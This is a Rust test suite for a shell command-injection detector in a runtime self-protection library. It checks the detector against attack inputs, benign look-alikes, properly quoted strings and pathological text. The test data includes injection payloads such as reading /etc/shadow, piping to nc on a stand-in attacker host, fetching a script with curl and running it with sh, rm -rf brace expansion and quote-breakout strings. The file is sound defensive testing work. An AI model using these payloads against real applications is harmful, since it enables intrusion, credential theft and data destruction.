//! The shell detector on realistic command lines: attacks it must flag,
//! benign look-alikes it must let through, and hostile text it must survive.

use memchr::memmem::Finder;
use proptest::prelude::*;
use rasp_core::Reason;
use rasp_core::detect::shell::detect;

fn reason(command: &str, input: &str) -> Option<Reason> {
    detect(command.as_bytes(), &Finder::new(input.as_bytes())).map(|f| f.reason)
}

/// A command line as an application builds it, with the input placed raw.
fn raw(template: &str, input: &str) -> String {
    template.replace("{}", input)
}

/// A command line with the input single-quoted the POSIX way (`'\''` for
/// each quote), as `shlex.quote` or `shell-escape` do.
fn quoted(template: &str, input: &str) -> String {
    template.replace("{}", &format!("'{}'", input.replace('\'', r"'\''")))
}

/// A command line with the input double-quoted, escaping `$`, `` ` ``, `"`
/// and `\`.
fn double_quoted(template: &str, input: &str) -> String {
    let mut escaped = String::new();
    for c in input.chars() {
        if matches!(c, '$' | '`' | '"' | '\\') {
            escaped.push('\\');
        }
        escaped.push(c);
    }
    template.replace("{}", &format!("\"{escaped}\""))
}

const TEMPLATES: &[&str] = &[
    "dig +short {}",
    "convert {} -thumbnail 64x64 /var/cache/thumbs/out.webp",
    "git -C /srv/repos show {}:README.md",
    "zip -r /tmp/export.zip {}",
    "ffprobe -v error {} 2>&1",
];

#[test]
fn flags_attacks_placed_raw() {
    let attacks: &[(&str, Reason)] = &[
        ("x; cat /etc/shadow", Reason::ShellOperator),
        ("x;uname", Reason::ShellOperator),
        ("x | nc attacker.test 4444", Reason::ShellOperator),
        ("x||reboot", Reason::ShellOperator),
        ("x && curl -s attacker.test/s | sh", Reason::ShellOperator),
        ("x &", Reason::ShellOperator),
        ("x\ntouch /tmp/pwned", Reason::ShellOperator),
        ("x > /etc/cron.d/job", Reason::ShellOperator),
        ("x</etc/hosts", Reason::ShellOperator),
        ("(sleep 9)", Reason::ShellOperator),
        ("$(sleep 9)", Reason::CommandSubstitution),
        ("`sleep 9`", Reason::CommandSubstitution),
        ("a$(printf x)b", Reason::CommandSubstitution),
        ("$((2*21))", Reason::CommandSubstitution),
        ("x${IFS}-rf", Reason::SpansTokens),
        ("x$IFS-rf", Reason::SpansTokens),
        ("{rm,-rf,/tmp/x}", Reason::SpansTokens),
        ("x -o /tmp/owned", Reason::SpansTokens),
        ("x #", Reason::OpensComment),
        ("x'", Reason::Unterminated),
        ("\"x", Reason::Unterminated),
    ];
    for template in TEMPLATES {
        for (input, expected) in attacks {
            let line = raw(template, input);
            let got = reason(&line, input);
            // Some templates add an operator right after the input; the
            // reason may then differ, but the input is always flagged.
            assert!(got.is_some(), "{input:?} in {line:?}");
            if template.ends_with("{}") {
                assert_eq!(got, Some(*expected), "{input:?} in {line:?}");
            }
        }
    }
}

#[test]
fn flags_breaking_out_of_the_applications_quotes() {
    let cases: &[(&str, &str, Reason)] = &[
        (
            "grep -- '{}' /srv/notes",
            "x' /etc/passwd '",
            Reason::BreaksLiteral,
        ),
        ("grep -- '{}' /srv/notes", "'; id; '", Reason::BreaksLiteral),
        ("echo \"{}\" >> log", "x\"; id; \"", Reason::BreaksLiteral),
        ("echo \"{}\" >> log", "$(id)", Reason::CommandSubstitution),
        ("echo \"{}\" >> log", "`id`", Reason::CommandSubstitution),
        ("echo \"{}\" >> log", "x\\", Reason::BreaksLiteral),
        ("printf '%s' '{}'", "x'", Reason::BreaksLiteral),
    ];
    for (template, input, expected) in cases {
        let line = raw(template, input);
        assert_eq!(
            reason(&line, input),
            Some(*expected),
            "{input:?} in {line:?}"
        );
    }
}

#[test]
fn allows_benign_words() {
    let words = [
        "report-2024-06.pdf",
        "photo_01.JPG",
        "release/v1.2.3",
        "user@example.org",
        "50%",
        "a,b",
        "--verbose",
        "-n",
        "~/notes.txt",
        "*.log",
        "naïve-café",
        "key=value",
        "{}",
    ];
    for template in TEMPLATES {
        for word in words {
            let line = raw(template, word);
            assert_eq!(reason(&line, word), None, "{word:?} in {line:?}");
        }
    }
}

#[test]
fn allows_anything_properly_quoted() {
    let inputs = [
        "Tom & Jerry",
        "rock 'n' roll",
        "it's",
        "'leading quote",
        "trailing quote'",
        "'both'",
        "a; b | c && d || e",
        "$(reboot) `reboot` ${IFS} $HOME",
        "line one\nline two",
        "back\\slash\\",
        "\"quoted\"",
        "# not a comment",
        "{a,b}",
        "x > y < z",
        "(parens)",
        "tab\there",
    ];
    for template in TEMPLATES {
        for input in inputs {
            let line = quoted(template, input);
            assert_eq!(reason(&line, input), None, "{input:?} in {line:?}");
            let line = double_quoted(template, input);
            assert_eq!(reason(&line, input), None, "{input:?} in {line:?}");
        }
    }
}

#[test]
fn allows_prose_in_the_applications_double_quotes() {
    let cases = [
        (
            "git commit -m \"{}\"",
            "Fix (again); see notes & docs | thanks",
        ),
        ("git commit -m \"{}\"", "Meet at 5 > 4 < 6"),
        ("notify-send \"{}\"", "Price: $5"),
        ("notify-send \"{}\"", "Hello $USER"),
        ("logger -t app \"{}\"", "He said 'hi'"),
    ];
    for (template, input) in cases {
        let line = raw(template, input);
        assert_eq!(reason(&line, input), None, "{input:?} in {line:?}");
    }
}

#[test]
fn judges_every_occurrence() {
    // The same text inside quotes and raw: the raw one is the injection.
    let line = "echo 'a b' && tar czf out.tgz a b";
    let finding = detect(line.as_bytes(), &Finder::new(b"a b")).expect("flagged");
    assert_eq!(finding.offset, line.rfind("a b").expect("present"));
}

#[test]
fn survives_hostile_text_in_linear_time() {
    // Many occurrences, deep nesting, unterminated constructs, 1 MB each.
    let mb = 1 << 20;
    let cases: Vec<(String, &str)> = vec![
        ("ab ".repeat(mb / 3), "ab"),
        ("a".repeat(mb), "aa"),
        ("'".repeat(mb), "''"),
        ("$(".repeat(mb / 2), "$($("),
        ("\"$(`".repeat(mb / 4), "$(`\""),
        (format!("echo '{}", " x".repeat(mb / 2)), " x x"),
        (format!("cat <<E\n{}", "a\n".repeat(mb / 2)), "a\na"),
        ("<<".repeat(mb / 2), "<<<<"),
        ("\\".repeat(mb), "\\\\"),
        ("x'\\''".repeat(mb / 5), "'\\''x"),
    ];
    for (text, input) in &cases {
        let _ = detect(text.as_bytes(), &Finder::new(input.as_bytes()));
    }
}

/// Any printable text, starting and ending with a letter or digit. (An
/// input that starts or ends with a quote or a blank can also occur where
/// it merely lines up with the application's own delimiters, `' ` with the
/// closing quote and the blank after it; every occurrence is judged, so
/// such an input may be flagged there.)
const INPUT: &str = "[A-Za-z0-9]([ -~\n\t]{0,38}[A-Za-z0-9])?";

proptest! {
    #[test]
    fn never_panics(text in proptest::collection::vec(any::<u8>(), 0..256), from in 0usize..256, len in 0usize..32) {
        let start = from.min(text.len());
        let end = (start + len).min(text.len());
        let input = &text[start..end];
        let finding = detect(&text, &Finder::new(input));
        if let Some(f) = finding {
            prop_assert!(text[f.offset..].starts_with(input));
        }
    }

    #[test]
    fn quoted_inputs_are_never_flagged(input in INPUT) {
        let line = quoted("grep -r -- {} /srv/data", &input);
        prop_assert_eq!(reason(&line, &input), None, "{:?}", line);
    }

    #[test]
    fn double_quoted_inputs_are_never_flagged(input in INPUT) {
        let line = double_quoted("logger -t app {} --id=7", &input);
        prop_assert_eq!(reason(&line, &input), None, "{:?}", line);
    }

    #[test]
    fn words_of_plain_characters_are_never_flagged(input in "[A-Za-z0-9._/=:@%+,-]{2,40}") {
        let line = raw("file --brief {} /dev/null", &input);
        prop_assert_eq!(reason(&line, &input), None);
    }
}

/// Quoted with rasp's shell sanitizer.
fn sanitized(input: &str) -> String {
    rasp_core::Sanitized::<String, rasp_core::Shell>::from_tainted(input).into_inner()
}

/// What `sh` prints for `printf %s <word>`.
#[allow(clippy::disallowed_methods, reason = "the oracle runs a real shell")]
fn printed_by_sh(word: &str) -> Vec<u8> {
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!("printf %s {word}"))
        .output()
        .expect("sh runs");
    assert!(out.status.success(), "{word:?}: {out:?}");
    out.stdout
}

proptest! {
    #[test]
    fn sanitized_inputs_are_never_flagged(input in INPUT) {
        for template in ["printf %s {}", "tar czf /tmp/out.tgz -- {} && echo done", "echo {}|wc -c"] {
            let line = template.replace("{}", &sanitized(&input));
            prop_assert_eq!(reason(&line, &input), None, "{:?}", line);
        }
    }

    #[test]
    fn sanitized_words_are_plain_or_quoted_like_shlex(input in "[^\u{0}]{0,24}") {
        let ours = sanitized(&input);
        let oracle = shlex::try_quote(&input).expect("no NUL byte");
        // Both are one word for a real shell, which prints the input back.
        prop_assert_eq!(printed_by_sh(&ours), input.as_bytes());
        prop_assert_eq!(printed_by_sh(&oracle), input.as_bytes());
        // Plain words are left alone (shlex quotes a few more, such as `=`).
        let plain = input.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_./,:@+=".contains(&b));
        if plain && !input.is_empty() {
            prop_assert_eq!(&ours, &input);
        }
    }
}
